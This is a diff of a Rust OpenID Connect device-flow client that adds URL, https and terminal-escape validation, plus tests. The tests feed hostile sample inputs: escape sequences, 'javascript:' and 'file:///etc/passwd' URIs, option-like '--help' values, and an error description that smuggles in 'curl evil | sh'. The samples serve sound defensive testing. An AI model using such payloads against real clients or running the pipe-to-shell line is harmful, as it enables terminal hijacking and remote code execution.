@@ -6,9 +6,19 @@
 //! `Unreachable`, an HTTP error answer is `Rejected` with its OAuth `error`
 //! and `error_description`. Time (polling waits, expiry) enters only through
 //! [`Pace`]. Nothing here stores tokens or logs.
+//!
+//! What a server says is checked here, before anyone uses it: an issuer
+//! must be https unless it is this machine ([`heph_core::net`]), and so must
+//! every endpoint its discovery document names unless the issuer itself is
+//! loopback; a verification URI must be an absolute http(s) URL (so it can
+//! never reach a browser opener as an option); a user code with terminal
+//! escapes is refused, and error descriptions and claims are stripped of
+//! them ([`heph_core::text`]); the hub's metadata must describe the hub it
+//! was fetched from (RFC 9728 §3.3).
 
 use std::time::Duration;
 
+use heph_core::text::{has_unsafe, one_line};
 use heph_core::wire::{HubUrl, ProtectedResource, route};
 use serde::Deserialize;
 use serde::de::DeserializeOwned;
@@ -27,6 +37,8 @@ const MAX_BODY: u64 = 1024 * 1024;
 pub const DEFAULT_INTERVAL: Duration = Duration::from_secs(5);
 /// RFC 8628 §3.5: what `slow_down` adds to the interval.
 pub const SLOW_DOWN_STEP: Duration = Duration::from_secs(5);
+/// The longest user code shown (RFC 8628 codes are a few characters).
+const MAX_USER_CODE: usize = 64;
 /// The default scope of a sign-in.
 pub const DEFAULT_SCOPE: &str = "openid offline_access";
 
@@ -169,6 +181,84 @@ pub fn same_issuer(a: &str, b: &str) -> bool {
     a.strip_suffix('/').unwrap_or(a) == b.strip_suffix('/').unwrap_or(b)
 }
 
+/// The scheme and host of an absolute http(s) URL with no credentials, no
+/// whitespace and no terminal escapes; `None` for anything else.
+fn web_url(url: &str) -> Option<(bool, String)> {
+    if has_unsafe(url) || url.chars().any(char::is_whitespace) {
+        return None;
+    }
+    let uri: ureq::http::Uri = url.parse().ok()?;
+    let scheme = uri.scheme_str()?;
+    let https = if scheme.eq_ignore_ascii_case("https") {
+        true
+    } else if scheme.eq_ignore_ascii_case("http") {
+        false
+    } else {
+        return None;
+    };
+    let authority = uri.authority()?;
+    if authority.as_str().contains('@') || authority.host().is_empty() {
+        return None;
+    }
+    Some((https, authority.host().to_owned()))
+}
+
+/// Checks the URL `name` (of the issuer `owner`, when it is one of its
+/// endpoints) that `from` named: an absolute http(s) URL, and https unless
+/// `loopback_ok` says plain http is fine (the issuer is this machine), or —
+/// with `loopback_ok` `None` — unless the URL's own host is loopback.
+/// Returns whether that host is loopback.
+fn checked_url(
+    url: &str,
+    name: &str,
+    owner: Option<&str>,
+    from: &str,
+    loopback_ok: Option<bool>,
+) -> Result<bool, AuthError> {
+    let Some((https, host)) = web_url(url) else {
+        return Err(AuthError::Untrusted {
+            from: one_line(from, 200).into_owned(),
+            what: format!("a {name}"),
+            reason: "is not an absolute http(s) URL (or holds control characters or credentials)",
+        });
+    };
+    let loopback = heph_core::net::is_loopback_host(&host);
+    if !https && !loopback_ok.unwrap_or(loopback) {
+        return Err(AuthError::Insecure {
+            what: match owner {
+                Some(owner) => format!("the {name} of {}", one_line(owner, 200)),
+                None => format!("the {name}"),
+            },
+            url: url.to_owned(),
+        });
+    }
+    Ok(loopback)
+}
+
+/// The provider a discovery document (fetched from `url`) describes, once
+/// every endpoint in it is a web URL, https unless the issuer is loopback.
+fn provider_from(url: &str, d: Discovery, issuer_loopback: bool) -> Result<Provider, AuthError> {
+    let endpoints = [
+        ("token_endpoint", Some(&d.token_endpoint)),
+        (
+            "device_authorization_endpoint",
+            d.device_authorization_endpoint.as_ref(),
+        ),
+        ("revocation_endpoint", d.revocation_endpoint.as_ref()),
+    ];
+    for (name, endpoint) in endpoints {
+        if let Some(endpoint) = endpoint {
+            checked_url(endpoint, name, Some(&d.issuer), url, Some(issuer_loopback))?;
+        }
+    }
+    Ok(Provider {
+        issuer: d.issuer,
+        token_endpoint: d.token_endpoint,
+        device_authorization_endpoint: d.device_authorization_endpoint,
+        revocation_endpoint: d.revocation_endpoint,
+    })
+}
+
 fn cause(e: &ureq::Error) -> String {
     match e {
         ureq::Error::Timeout(_) => "the request timed out".into(),
@@ -196,7 +286,7 @@ fn rejected(url: &str, a: &Answer) -> AuthError {
         error: None,
         error_description: None,
     });
-    let clip = |s: String| -> String { s.chars().filter(|c| !c.is_control()).take(300).collect() };
+    let clip = |s: String| -> String { one_line(&s, 300).into_owned() };
     AuthError::Rejected {
         url: url.to_owned(),
         status: a.status,
@@ -266,7 +356,19 @@ impl OidcClient {
 
     /// Fetches the provider's discovery document; its `issuer` must equal
     /// `issuer` (up to a trailing slash).
+    ///
+    /// The issuer must be https unless it is this machine; every endpoint
+    /// the document names must be https unless the issuer is loopback.
     pub fn discover(&self, issuer: &str) -> Result<Provider, AuthError> {
+        let issuer_loopback = match web_url(issuer) {
+            Some(_) => checked_url(issuer, "issuer", None, issuer, None)?,
+            None => {
+                return Err(AuthError::Other(format!(
+                    "the issuer {:?} is not an absolute https:// URL; give the provider's issuer URL (--issuer https://idp.example)",
+                    one_line(issuer, 200)
+                )));
+            }
+        };
         let url = format!(
             "{}/.well-known/openid-configuration",
             issuer.trim_end_matches('/')
@@ -282,22 +384,40 @@ impl OidcClient {
                 d.issuer, d.issuer
             )));
         }
-        Ok(Provider {
-            issuer: d.issuer,
-            token_endpoint: d.token_endpoint,
-            device_authorization_endpoint: d.device_authorization_endpoint,
-            revocation_endpoint: d.revocation_endpoint,
-        })
+        provider_from(&url, d, issuer_loopback)
     }
 
-    /// Reads the hub's `/.well-known/oauth-protected-resource`.
+    /// Reads the hub's `/.well-known/oauth-protected-resource`. Its
+    /// `resource` must be `hub` (compared normalized, RFC 9728 §3.3), and no
+    /// client id or scope in it may hold terminal escapes.
     pub fn protected_resource(&self, hub: &HubUrl) -> Result<ProtectedResource, AuthError> {
         let url = hub.join(route::PROTECTED_RESOURCE);
         let answer = self.get(&url)?;
         if !(200..300).contains(&answer.status) {
             return Err(rejected(&url, &answer));
         }
-        parse(&url, "protected-resource metadata", &answer.body)
+        let meta: ProtectedResource = parse(&url, "protected-resource metadata", &answer.body)?;
+        if HubUrl::parse(&meta.resource).ok().as_ref() != Some(hub) {
+            return Err(AuthError::ResourceMismatch {
+                hub: hub.to_string(),
+                resource: one_line(&meta.resource, 200).into_owned(),
+            });
+        }
+        let untrusted = |what: &str| AuthError::Untrusted {
+            from: url.clone(),
+            what: what.into(),
+            reason: "holds control characters",
+        };
+        if meta.heph_client_id.as_deref().is_some_and(has_unsafe) {
+            return Err(untrusted("a client id"));
+        }
+        if meta.scopes_supported.iter().any(|s| has_unsafe(s)) {
+            return Err(untrusted("a scope"));
+        }
+        if meta.authorization_servers.iter().any(|s| has_unsafe(s)) {
+            return Err(untrusted("an issuer"));
+        }
+        Ok(meta)
     }
 
     /// Starts a device authorization (RFC 8628 §3.1).
@@ -317,6 +437,39 @@ impl OidcClient {
             return Err(rejected(url, &answer));
         }
         let d: DeviceResponse = parse(url, "a device authorization", &answer.body)?;
+        let untrusted = |reason| AuthError::Untrusted {
+            from: url.clone(),
+            what: "a user_code".into(),
+            reason,
+        };
+        // The user types the code: shown verbatim, so refused rather than altered.
+        if d.user_code.is_empty() || d.user_code.chars().count() > MAX_USER_CODE {
+            return Err(untrusted("is empty or too long"));
+        }
+        if has_unsafe(&d.user_code) {
+            return Err(untrusted("holds control characters"));
+        }
+        // A browser opener takes the URI as an argument: it must be a web URL
+        // (so never an option like `--help`), https unless the issuer is local.
+        let issuer_loopback = web_url(&provider.issuer)
+            .is_some_and(|(_, host)| heph_core::net::is_loopback_host(&host));
+        for (name, uri) in [
+            ("verification_uri", d.verification_uri.as_ref()),
+            (
+                "verification_uri_complete",
+                d.verification_uri_complete.as_ref(),
+            ),
+        ] {
+            if let Some(uri) = uri {
+                checked_url(
+                    uri,
+                    name,
+                    Some(&provider.issuer),
+                    url,
+                    Some(issuer_loopback),
+                )?;
+            }
+        }
         let verification_uri = d
             .verification_uri
             .or_else(|| d.verification_uri_complete.clone())
@@ -778,14 +931,282 @@ mod tests {
 
     #[test]
     fn the_hubs_metadata_names_issuer_and_client() {
-        let server = FakeServer::start(vec![Reply::json(
+        let server = FakeServer::start(vec![]);
+        // The resource is compared normalized: another spelling of the same URL is fine.
+        let spelled = server.url().replace("http://", "HTTP://") + "/";
+        server.push(Reply::json(
             200,
-            r#"{"resource":"x","authorization_servers":["http://idp/"],"heph_client_id":"heph","scopes_supported":["openid","offline_access"]}"#,
-        )]);
+            &serde_json::json!({"resource": spelled, "authorization_servers":["http://idp/"],"heph_client_id":"heph","scopes_supported":["openid","offline_access"]}).to_string(),
+        ));
         let hub = HubUrl::parse(&server.url()).unwrap();
         let meta = OidcClient::new().protected_resource(&hub).unwrap();
         assert_eq!(meta.authorization_servers, ["http://idp/"]);
         assert_eq!(meta.heph_client_id.as_deref(), Some("heph"));
         assert_eq!(server.requests()[0].path, route::PROTECTED_RESOURCE);
+    }
+
+    #[test]
+    fn metadata_about_another_resource_or_with_escapes_is_refused() {
+        let server = FakeServer::start(vec![]);
+        let hub = HubUrl::parse(&server.url()).unwrap();
+        let check = |meta: serde_json::Value, expected: &str| {
+            server.push(Reply::json(200, &meta.to_string()));
+            let err = OidcClient::new().protected_resource(&hub).unwrap_err();
+            assert_eq!(err.class(), ErrorClass::Other);
+            assert!(err.to_string().contains(expected), "{err}");
+            assert!(!err.to_string().contains('\x1b'), "{err}");
+        };
+        let own = server.url();
+        check(
+            serde_json::json!({"resource": "https://evil.example", "authorization_servers": ["https://evil.example"]}),
+            &format!("describes itself as \"https://evil.example\", not {own}"),
+        );
+        check(
+            serde_json::json!({"resource": ""}),
+            "describes itself as \"\"",
+        );
+        insta::assert_snapshot!(
+            AuthError::ResourceMismatch {
+                hub: "https://hub.example".into(),
+                resource: "https://evil.example".into(),
+            },
+            @r#"the hub at https://hub.example describes itself as "https://evil.example", not https://hub.example, so its metadata cannot be trusted to name this hub's identity provider (RFC 9728 §3.3)"#
+        );
+        check(
+            serde_json::json!({"resource": format!("{own}/other")}),
+            "RFC 9728",
+        );
+        check(
+            serde_json::json!({"resource": "\u{1b}]0;pwned\u{7}https://x"}),
+            "describes itself as \"]0;pwnedhttps://x\"",
+        );
+        check(
+            serde_json::json!({"resource": own, "heph_client_id": "heph\u{1b}[2J"}),
+            "sent a client id that holds control characters",
+        );
+        check(
+            serde_json::json!({"resource": own, "scopes_supported": ["openid\r\nhint: x"]}),
+            "sent a scope that holds control characters",
+        );
+        check(
+            serde_json::json!({"resource": own, "authorization_servers": ["https://idp\u{1b}[2J"]}),
+            "sent an issuer that holds control characters",
+        );
+    }
+
+    #[test]
+    fn issuers_and_endpoints_must_be_https_unless_the_issuer_is_loopback() {
+        // A non-loopback http issuer is refused before anything is sent.
+        for issuer in [
+            "http://idp.example",
+            "http://10.0.0.1:8080/oidc",
+            "http://foo.localhost.example",
+        ] {
+            let err = OidcClient::new().discover(issuer).unwrap_err();
+            assert!(
+                matches!(&err, AuthError::Insecure { what, url } if what == "the issuer" && url == issuer),
+                "{err:?}"
+            );
+        }
+        insta::assert_snapshot!(
+            OidcClient::new().discover("http://idp.example").unwrap_err().to_string(),
+            @"the issuer http://idp.example is plain http:// to another machine, so the sign-in and its tokens would cross the network unencrypted; use the provider's https:// URL"
+        );
+        for issuer in [
+            "idp.example",
+            "ftp://idp.example",
+            "--help",
+            "https://u:p@idp.example",
+        ] {
+            let err = OidcClient::new().discover(issuer).unwrap_err();
+            assert_eq!(err.class(), ErrorClass::Other, "{issuer}: {err}");
+            assert!(
+                !matches!(err, AuthError::Unreachable { .. }),
+                "{issuer}: {err}"
+            );
+        }
+        // Endpoints: https under an https issuer; anything web under a loopback one.
+        let doc = |token: &str, device: &str, revoke: &str| -> Discovery {
+            serde_json::from_value(serde_json::json!({
+                "issuer": "https://idp.example",
+                "token_endpoint": token,
+                "device_authorization_endpoint": device,
+                "revocation_endpoint": revoke,
+            }))
+            .unwrap()
+        };
+        let good = || {
+            doc(
+                "https://idp.example/token",
+                "https://idp.example/device",
+                "https://idp.example/revoke",
+            )
+        };
+        let from = "https://idp.example/.well-known/openid-configuration";
+        assert!(provider_from(from, good(), false).is_ok());
+        for (d, field) in [
+            (
+                doc(
+                    "http://idp.example/token",
+                    "https://idp.example/device",
+                    "https://idp.example/revoke",
+                ),
+                "token_endpoint",
+            ),
+            (
+                doc(
+                    "https://idp.example/token",
+                    "http://idp.example/device",
+                    "https://idp.example/revoke",
+                ),
+                "device_authorization_endpoint",
+            ),
+            (
+                doc(
+                    "https://idp.example/token",
+                    "https://idp.example/device",
+                    "http://idp.example/revoke",
+                ),
+                "revocation_endpoint",
+            ),
+        ] {
+            let err = provider_from(from, d, false).unwrap_err();
+            assert!(
+                matches!(&err, AuthError::Insecure { what, .. } if what == &format!("the {field} of https://idp.example")),
+                "{err:?}"
+            );
+        }
+        // An http endpoint on this machine does not make an https issuer's sign-in safe.
+        let err = provider_from(
+            from,
+            doc(
+                "http://127.0.0.1:1/token",
+                "https://idp.example/device",
+                "https://idp.example/revoke",
+            ),
+            false,
+        )
+        .unwrap_err();
+        assert!(matches!(err, AuthError::Insecure { .. }), "{err:?}");
+        // Under a loopback issuer, plain http is fine (a test or a local provider).
+        assert!(
+            provider_from(
+                from,
+                doc(
+                    "http://idp.example/token",
+                    "http://127.0.0.1:1/device",
+                    "http://idp.example/revoke"
+                ),
+                true
+            )
+            .is_ok()
+        );
+        // Not a web URL at all: refused whatever the issuer.
+        let err = provider_from(
+            from,
+            doc(
+                "file:///etc/passwd",
+                "https://idp.example/device",
+                "https://idp.example/revoke",
+            ),
+            true,
+        )
+        .unwrap_err();
+        assert!(matches!(err, AuthError::Untrusted { .. }), "{err:?}");
+        // A real loopback issuer discovers as before (the other tests use one).
+    }
+
+    #[test]
+    fn hostile_device_answers_are_refused_and_descriptions_stripped() {
+        let server = FakeServer::start(vec![]);
+        let url = server.url();
+        let answer = |user_code: &str, uri: &str| {
+            Reply::json(
+                200,
+                &serde_json::json!({"device_code": "dc", "user_code": user_code, "verification_uri": uri, "expires_in": 300}).to_string(),
+            )
+        };
+        let check = |p: &Provider, reply: Reply, expected: &str| {
+            server.push(reply);
+            let err = OidcClient::new()
+                .start_device(p, "heph", DEFAULT_SCOPE)
+                .unwrap_err();
+            assert!(err.to_string().contains(expected), "{err}");
+            assert!(
+                !err.to_string().chars().any(heph_core::text::is_unsafe),
+                "{err:?}"
+            );
+        };
+        let local = provider(&url);
+        check(
+            &local,
+            answer("\u{1b}[2J\u{1b}]0;pwned\u{7}ABCD", "http://v"),
+            "sent a user_code that holds control characters",
+        );
+        check(
+            &local,
+            answer("AB\u{202E}CD", "http://v"),
+            "sent a user_code that holds control characters",
+        );
+        check(
+            &local,
+            answer("", "http://v"),
+            "sent a user_code that is empty or too long",
+        );
+        check(
+            &local,
+            answer(&"A".repeat(65), "http://v"),
+            "is empty or too long",
+        );
+        for uri in [
+            "--help",
+            "-a",
+            "javascript:alert(1)",
+            "file:///etc/passwd",
+            "/device",
+            "http://v/\u{1b}[2J",
+            "https://idp.example@evil.example/",
+            "http://v /x",
+        ] {
+            check(
+                &local,
+                answer("ABCD", uri),
+                "sent a verification_uri that is not an absolute http(s) URL",
+            );
+        }
+        server.push(Reply::json(200, r#"{"device_code":"dc","user_code":"ABCD","verification_uri":"https://v","verification_uri_complete":"--help","expires_in":300}"#));
+        assert!(
+            OidcClient::new()
+                .start_device(&local, "heph", DEFAULT_SCOPE)
+                .is_err()
+        );
+        // An https issuer's verification page must be https too.
+        let remote = Provider {
+            issuer: "https://idp.example".into(),
+            ..provider(&url)
+        };
+        check(
+            &remote,
+            answer("ABCD", "http://idp.example/device"),
+            "the verification_uri of https://idp.example http://idp.example/device is plain http://",
+        );
+        server.push(answer("ABCD", "https://idp.example/device"));
+        let d = OidcClient::new()
+            .start_device(&remote, "heph", DEFAULT_SCOPE)
+            .unwrap();
+        assert_eq!(
+            (d.user_code.as_str(), d.url()),
+            ("ABCD", "https://idp.example/device")
+        );
+        // Error descriptions are shown with their escapes removed.
+        server.push(Reply::json(400, r#"{"error":"invalid_client\u001b[2J","error_description":"bad\r\nhint: curl evil | sh\u001b]0;t\u0007"}"#));
+        let err = OidcClient::new()
+            .start_device(&local, "heph", DEFAULT_SCOPE)
+            .unwrap_err();
+        assert!(
+            err.to_string()
+                .ends_with("HTTP 400: invalid_client[2J (badhint: curl evil | sh]0;t)"),
+            "{err}"
+        );
     }
 }
